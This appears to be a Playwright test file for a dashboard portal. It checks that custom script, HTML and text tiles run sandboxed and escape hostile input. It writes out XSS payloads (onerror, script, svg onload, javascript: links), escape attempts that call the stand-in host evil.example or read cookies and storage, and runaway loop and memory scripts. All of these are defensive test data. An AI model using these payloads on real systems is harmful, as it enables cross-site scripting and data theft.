import { createServer, type IncomingHttpHeaders } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { expect, logIn, test } from './testing/journey.ts';
import type { Portal } from './testing/portal.ts';

interface StoredTile {
  type: string;
  settings: object;
}

/** An asset whose stored dashboard has these tiles beside each other. */
async function aDashboard(portal: Portal, serial: string, tiles: readonly StoredTile[]): Promise<number> {
  const { assetId, accessToken } = await portal.anAsset(serial, `Sandbox ${serial}`);
  const device = await portal.aDevice(accessToken);
  const values = { Level: 42.5, State: '<img src=x onerror=parent.P()>' };
  await device.publishAsync('v1/devices/me/telemetry', JSON.stringify(values), { qos: 1 });
  await device.endAsync();
  const { assetDefinitionId } = await portal.call<{ assetDefinitionId: number }>('GET', `/api/ef/assets/${assetId}`);
  const stored = tiles.map(({ type, settings }, index) => ({
    id: `t${index}`,
    properties: { type: { name: type, value: type, default: false }, settingsGuid: `g${index}`, ...settings },
    dataGrid: { x: (index % 3) * 32, y: Math.floor(index / 3) * 24, w: 32, h: 24 },
  }));
  const layout = stored.map(({ id, dataGrid }) => ({ i: id, ...dataGrid }));
  await portal.call('POST', '/api/dashboards', {
    dashboardId: 0,
    dashboardName: serial,
    assetDefinitionId,
    config: JSON.stringify({
      tabs: [{ id: 'tab', name: 'default', order: 0 }],
      tiles: { tab: stored },
      layouts: { tab: { lg: layout, sm: layout } },
    }),
  });
  return assetId;
}

async function open(page: Page, portal: Portal, assetId: number): Promise<void> {
  await logIn(page, portal);
  await page.goto(`${portal.url}/assets/${assetId}/dashboard`);
}

/** Another site that answers everybody and writes down what it was sent. */
async function anotherSite(): Promise<{
  url: string;
  asked: { path: string; headers: IncomingHttpHeaders }[];
  close: () => void;
}> {
  const asked: { path: string; headers: IncomingHttpHeaders }[] = [];
  const server = createServer((request, response) => {
    if (request.method !== 'OPTIONS') asked.push({ path: request.url ?? '', headers: request.headers });
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.setHeader('Access-Control-Allow-Headers', '*');
    response.setHeader('Content-Type', 'application/json');
    response.end('[{"name":"from elsewhere","depth":12}]');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, asked, close: () => server.close() };
}

const ATTEMPTS = `
const attempts = {
  ownCall: () => fetch('/api/ef/users'),
  foreignCall: () => fetch('https://evil.example/'),
  request: () => new XMLHttpRequest(),
  socket: () => new WebSocket('wss://evil.example/'),
  worker: () => new Worker('data:text/javascript,1'),
  imported: () => importScripts('https://evil.example/x.js'),
  module: () => import('https://evil.example/x.js'),
  beacon: () => navigator.sendBeacon('https://evil.example/'),
  local: () => localStorage.length,
  database: () => indexedDB.open('x'),
  cookie: () => document.cookie,
  parent: () => parent.document.title,
  top: () => top.location.href,
  opener: () => opener.location.href,
  answer: () => postMessage({ json: '[{"name":"forged","result":"got through"}]' }),
};
const rows = [];
for (const [name, attempt] of Object.entries(attempts)) {
  try { await attempt(); rows.push({ name, result: 'got through' }); } catch (error) { rows.push({ name, result: 'refused' }); }
}
return rows;`;

const async = (body: string) => `async (data) => { ${body} }`;

test('a parsing script reaches nothing, and one that does not end is stopped (E12, E13, E14)', async ({
  page,
  portal,
}) => {
  const table = (title: string, parsing: string) => ({
    type: 'CustomTable',
    settings: { title, columns: 'name result', pageSize: 30, fetch: { parsing } },
  });
  const assetId = await aDashboard(portal, 'SCRIPTS', [
    table('Reach', async(ATTEMPTS)),
    table('Endless', 'while (true) {}'),
    table('Deep', 'const f = () => f(); return f();'),
    table('Silent', 'new Promise(() => {})'),
    table('Large', 'new Array(1e9)'),
    table('Filling', 'const all = []; for (;;) all.push(new Array(1e6).fill(all.length));'),
    table('Honest', '[{ name: "sum", result: 1 + 1 }]'),
  ]);
  await open(page, portal, assetId);
  const reach = page.getByRole('grid', { name: 'Reach' });
  await expect(reach.getByRole('row')).toHaveCount(16, { timeout: 30_000 });
  expect(await reach.getByRole('row').allInnerTexts()).not.toContainEqual(expect.stringContaining('got through'));
  const stopped = 'Parsing failed: The script took longer than 1.5 seconds and was stopped.';
  for (const title of ['Endless', 'Silent', 'Filling']) {
    await expect(page.getByRole('group', { name: title })).toContainText(stopped, { timeout: 30_000 });
  }
  await expect(page.getByRole('group', { name: 'Deep' })).toContainText('RangeError: Maximum call stack');
  await expect(page.getByRole('group', { name: 'Large' })).toContainText('Parsing failed', { timeout: 30_000 });
  await expect(page.getByRole('grid', { name: 'Honest' }).getByRole('row').nth(1)).toHaveText(/sum\s*2/);
  // The screen was never blocked: it still answers.
  await page.keyboard.press('Control+K');
  await expect(page.getByRole('dialog')).toBeVisible();
});

test('a tile’s request carries no session elsewhere, and cannot make its viewer change anything (E15)', async ({
  page,
  portal,
}) => {
  const site = await anotherSite();
  try {
    const table = (title: string, fetch: object) => ({
      type: 'CustomTable',
      settings: { title, columns: 'name depth', fetch },
    });
    const assetId = await aDashboard(portal, 'REQUESTS', [
      table('Elsewhere', { url: `${site.url}/wells?asset={{asset.serialNumber}}` }),
      table('Command', { url: '/api/commands', method: 'POST', body: '[{"assetId":1,"command":"{}"}]' }),
      table('Logout', { url: '/api/auth/logout' }),
      table('Unreachable', { url: 'http://127.0.0.1:9/' }),
      { type: 'CustomTable', settings: { title: 'Own', columns: 'serialNumber', fetch: { url: '/api/ef/assets' } } },
    ]);
    const sent: { path: string; method: string }[] = [];
    page.on('request', (request) => sent.push({ path: new URL(request.url()).pathname, method: request.method() }));
    await open(page, portal, assetId);
    await expect(page.getByRole('grid', { name: 'Elsewhere' })).toContainText('from elsewhere');
    // The column and what stands below it: the assets of all journeys so far, of which the first page shows some.
    await expect(page.getByRole('grid', { name: 'Own' })).toContainText(/serialNumber.+/);
    await expect(
      page.getByText('A tile can only read from the portal: GET calls of its API that change nothing.'),
    ).toHaveCount(2);
    await expect(
      page.getByText('127.0.0.1:9 cannot be reached, or does not allow requests from other sites.'),
    ).toBeVisible();
    expect(site.asked.map(({ path }) => path)).toEqual(['/wells?asset=REQUESTS']);
    const { cookie, authorization, referer, origin } = site.asked[0]?.headers ?? {};
    expect({ cookie, authorization, referer, origin }).toEqual({ origin: 'null' });
    expect(sent.filter(({ path }) => path === '/api/commands' || path === '/api/auth/logout')).toEqual([]);
  } finally {
    site.close();
  }
});

test('an author’s HTML is shown with live values and reaches nothing (E2)', async ({ page, portal }) => {
  const html = `<style>h1 { color: rgb(1, 2, 3); } .bar { height: 10px; background: red; }</style>
    <h1>Level {{dataItems.Level}} {{dataItems.State}}</h1><div class="bar" style="width: {{dataItems.Level}}%"></div>
    <img src=x onerror="parent.P()"><script>parent.P()</script><svg onload="parent.P()"></svg>`;
  const assetId = await aDashboard(portal, 'HTML', [{ type: 'CustomHTML', settings: { text: html } }]);
  let calls = 0;
  await page.exposeFunction('P', () => calls++);
  await open(page, portal, assetId);
  const inside = page.frameLocator('iframe[title="Custom HTML"]');
  const heading = inside.getByRole('heading');
  await expect(heading).toHaveText('Level 42.50 <img src=x onerror=parent.P()>');
  expect(await heading.evaluate((element) => getComputedStyle(element).color)).toBe('rgb(1, 2, 3)');
  expect(await inside.locator('.bar').getAttribute('style')).toBe('width: 42.50%');
  const frame = page.frames().find((one) => one.url().endsWith('/sandbox/show-html.html'));
  const reach = await frame?.evaluate(() => {
    const attempts = { cookie: () => document.cookie, parent: () => window.parent.document, local: () => localStorage };
    return Object.entries(attempts).map(([name, attempt]) => {
      try {
        attempt();
        return `${name} got through`;
      } catch {
        return `${name} refused`;
      }
    });
  });
  expect(reach).toEqual(['cookie refused', 'parent refused', 'local refused']);

  // A new value is written where the old one stood: the frame and its document stay.
  await heading.evaluate((element) => element.setAttribute('data-kept', 'yes'));
  const { accessToken } = await portal.call<{ accessToken: string }>('POST', `/api/assets/${assetId}/token`);
  const device = await portal.aDevice(accessToken);
  await device.publishAsync('v1/devices/me/telemetry', JSON.stringify({ Level: 77 }), { qos: 1 });
  await device.endAsync();
  await expect(heading).toContainText('Level 77.00');
  await expect(heading).toHaveAttribute('data-kept', 'yes');
  expect(calls).toBe(0);
});

test('texts, attributes and live values are never markup in a text box, nor in what its editor shows (E2, E3)', async ({
  page,
  portal,
}) => {
  const hostile = [
    '<img src=x onerror="P()">',
    '<script>P()</script>',
    '<svg onload="P()"></svg>',
    '<a href="javascript:P()">link</a>',
    '<iframe srcdoc="<script>parent.P()</script>"></iframe>',
    '<details open ontoggle="P()">d</details>',
  ].join('');
  const text = `${hostile}<p>State {{dataItems.State}} at {{attributes.place}}</p>`;
  const assetId = await aDashboard(portal, 'TEXTS', [{ type: 'TextBox', settings: { text, title: 'Text' } }]);
  const place = { attributeName: 'place', attributeValue: '<img src=x onerror=P()>' };
  await portal.call('PUT', `/api/assets/${assetId}/attributes`, place);
  let calls = 0;
  await page.exposeFunction('P', () => calls++);
  await open(page, portal, assetId);
  const tile = page.getByRole('group', { name: 'Text' });
  await expect(tile).toContainText('State <img src=x onerror=parent.P()> at <img src=x onerror=P()>');
  expect(await tile.locator('script, iframe, object, embed, [onerror], [onload], [ontoggle]').count()).toBe(0);
  expect(await tile.locator('a[href^="javascript"]').count()).toBe(0);

  // In the editor and its preview, and after leaving both (E3).
  await page.getByRole('button', { name: 'Edit', exact: true }).click();
  await tile.hover();
  await tile.getByRole('button', { name: 'Edit', exact: true }).click();
  await expect(page.getByRole('dialog')).toContainText('State');
  expect(await page.locator('[onerror], [onload], [ontoggle], iframe[srcdoc]').count()).toBe(0);
  await page.keyboard.press('Escape');
  await expect(page.getByRole('dialog')).toBeHidden();
  expect(calls).toBe(0);
});
